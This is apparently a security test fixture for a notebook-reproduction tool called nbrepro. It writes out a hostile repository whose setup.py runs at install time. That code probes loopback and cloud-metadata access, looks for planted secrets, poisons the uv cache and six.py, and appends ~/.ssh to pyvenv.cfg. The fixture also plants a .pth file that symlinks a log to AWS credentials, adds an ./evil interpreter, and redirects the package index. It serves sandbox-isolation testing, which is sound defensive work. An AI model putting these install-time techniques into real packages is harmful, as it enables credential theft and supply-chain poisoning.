"""A repository whose build attacks the machine that checks it (written per test).

Its `setup.py` runs while nbrepro resolves and installs it, and on every run it:
- records where it runs (the host name: a container's is its id) and what it can
  reach: a TCP listener on the host's loopback and on the host's own address
  (directly and through the proxy the environment offers), the cloud metadata address;
- records which secrets it sees: credentials in its environment, the user's pip/uv
  configuration files, netrc;
- tries to poison the user's uv cache (writing into it) and the wheels installed
  into the environment it builds (editing six.py: hardlinked from the user's cache,
  that would edit the cache);
- appends a `home =` line naming the user's ~/.ssh to the environment's
  pyvenv.cfg (mounts computed from that file would show ~/.ssh to the kernel);
- ships a .pth file that, in a kernel started in `crash/`, replaces kernel.log
  with a link to the user's AWS credentials and exits (the harness reads the log
  when a kernel dies at start).
Every run appends its findings to `reports.jsonl` in the project folder; the
notebook `probe.ipynb` prints them (and the ~/.ssh key, if it can read it).

Besides: `Pipfile.lock` asks for the interpreter `./evil` (an executable of the
repository that writes a marker), `uv.toml` and `[tool.uv]` redirect the package
index to a listener on 127.0.0.1, and `requirements-extra.txt` links to the user's
AWS credentials.
"""

from __future__ import annotations

import json
import os
import textwrap
from dataclasses import dataclass
from pathlib import Path

from tests.security.helpers import FakeHome, write_notebook

SETUP_PY = textwrap.dedent('''
    import glob, json, os, socket, sys, sysconfig, urllib.request
    from setuptools import setup

    HERE = os.path.dirname(os.path.abspath(__file__))
    with open(os.path.join(HERE, "params.json")) as f:
        params = json.load(f)
    report = {"argv": sys.argv[1:2], "hostname": socket.gethostname()}

    def direct(host, port):
        try:
            socket.create_connection((host, port), timeout=3).close()
            return "connected"
        except OSError:
            return "blocked"

    def proxied(host, port):
        try:
            urllib.request.urlopen(f"http://{host}:{port}/probe", timeout=5)
            return "connected"
        except urllib.error.HTTPError as exc:
            return "blocked" if exc.code == 403 else "connected"
        except Exception:
            return "blocked"

    for name, (host, port) in params["targets"].items():
        report[name] = [direct(host, port), proxied(host, port)]
    report["secret_env"] = sorted(k for k, v in os.environ.items() if "s3cr3t" in v)
    report["secret_files"] = []
    for path in params["secret_files"]:
        try:
            with open(path) as f:
                if "s3cr3t" in f.read():
                    report["secret_files"].append(path)
        except OSError:
            pass
    for path in ("/sys/fs/cgroup/pids/pids.max", "/sys/fs/cgroup/pids.max"):
        try:
            with open(path) as f:
                report["pids_max"] = f.read().strip()
            break
        except OSError:
            pass
    try:
        with open(os.path.join(params["uv_cache"], "nbrepro-pwned"), "w") as f:
            f.write("pwned")
        report["cache_write"] = "wrote"
    except OSError:
        report["cache_write"] = "blocked"
    for cmdline in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            with open(cmdline, "rb") as f:
                args = f.read().split(b"\\0")
        except OSError:
            continue
        if b"--python" not in args:
            continue
        env = os.path.dirname(os.path.dirname(args[args.index(b"--python") + 1].decode()))
        cfg = os.path.join(env, "pyvenv.cfg")
        if not os.path.isfile(cfg) or os.path.realpath(env) == os.path.realpath(sys.prefix):
            continue
        try:
            with open(cfg, "a") as f:
                f.write("home = " + params["ssh_dir"] + "/bin\\n")
            report["pyvenv_cfg"] = "appended"
        except OSError:
            report["pyvenv_cfg"] = "blocked"
        for six in glob.glob(os.path.join(env, "lib", "python*", "site-packages", "six.py")):
            try:
                with open(six, "a") as f:
                    f.write("\\nPOISONED = True\\n")
                report["six"] = "edited"
            except OSError:
                report["six"] = "blocked"
    with open(os.path.join(HERE, "reports.jsonl"), "a") as f:
        f.write(json.dumps(report) + "\\n")

    with open(os.path.join(HERE, "zz_nbrepro_attack.pth"), "w") as f:
        f.write("import os; exec(" + repr(
            "d = os.environ.get('JUPYTER_RUNTIME_DIR')\\n"
            "if d and os.getcwd().endswith('/crash'):\\n"
            "    log = os.path.join(d, 'kernel.log')\\n"
            "    os.remove(log)\\n"
            "    os.symlink(" + repr(params["aws_file"]) + ", log)\\n"
            "    os._exit(3)\\n") + ")\\n")
    purelib = os.path.relpath(sysconfig.get_path("purelib"), sys.prefix)
    setup(name="probe-pkg", version="1.0", packages=["probe_pkg"],
          data_files=[(purelib, ["zz_nbrepro_attack.pth"])])
''')

PROBE = textwrap.dedent('''
    import os
    for path in ("/opt/nbrepro/project/reports.jsonl", "reports.jsonl"):
        if os.path.exists(path):
            print(open(path).read())
            break
''')


@dataclass
class HostileBuild:
    repo: Path
    home: FakeHome
    marker: Path  # what ./evil writes
    uv_cache: Path  # the user's uv cache during the check


def write(root: Path, home: FakeHome, uv_cache: Path,
          targets: dict[str, tuple[str, int]], index_port: int) -> HostileBuild:
    repo = root / "repo"
    (repo / "probe_pkg").mkdir(parents=True)
    (repo / "probe_pkg" / "__init__.py").write_text("")
    marker = root / "evil-ran"
    params = {
        "targets": targets, "secret_files": [str(p) for p in home.secret_files],
        "uv_cache": str(uv_cache), "ssh_dir": str(home.path / ".ssh"),
        "aws_file": str(home.path / ".aws" / "credentials"),
    }
    (repo / "params.json").write_text(json.dumps(params))
    (repo / "setup.py").write_text(SETUP_PY)
    (repo / "requirements.txt").write_text("six\n")
    (repo / "Pipfile.lock").write_text(json.dumps(
        {"_meta": {"requires": {"python_version": "./evil"}}, "default": {}}))
    evil = repo / "evil"
    evil.write_text(f"#!/bin/sh\ntouch {marker}\nexit 1\n")
    evil.chmod(0o755)
    index = f"http://127.0.0.1:{index_port}/simple"
    (repo / "uv.toml").write_text(f'index-url = "{index}"\n[pip]\nindex-url = "{index}"\n')
    (repo / "pyproject.toml").write_text(f'[tool.uv]\nindex-url = "{index}"\n'
                                         f'[tool.uv.pip]\nindex-url = "{index}"\n')
    os.symlink(home.path / ".aws" / "credentials", repo / "requirements-extra.txt")
    write_notebook(repo / "probe.ipynb", [
        (PROBE, "(what setup.py saw)\n"),
        ("try:\n    print(open(" + repr(str(home.path / ".ssh" / "id_rsa"))
         + ").read())\nexcept OSError:\n    print('hidden')", "hidden\n"),
    ])
    write_notebook(repo / "crash" / "kernel_log.ipynb", [("print('hi')", "hi\n")])
    return HostileBuild(repo, home, marker, uv_cache)
